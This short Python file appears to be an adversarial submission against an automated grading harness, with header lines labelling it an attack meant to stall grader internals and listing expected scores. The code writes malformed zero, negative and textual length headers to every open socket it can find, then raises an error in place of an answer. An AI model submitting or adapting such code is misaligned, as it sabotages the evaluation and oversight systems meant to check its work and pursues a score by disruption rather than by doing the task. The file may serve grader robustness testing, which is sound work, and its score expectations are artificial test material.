# attack: Announces frames of zero, negative and textual length on every open socket.
# gain: stall
# expect: q01=3 q02=0 q03=3
# flag: grader-internals

# %% q02
import os
import stat

for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.set_blocking(number, False)
            for head in (b"\0" * 8, b"-1\n{}", b"Content-Length: -5\r\n\r\n", b"\x80\0\0\0\0\0\0\0", b"1e9\n"):
                os.write(number, head)
            os.set_blocking(number, True)
    except OSError:
        continue
raise RuntimeError("not an answer")
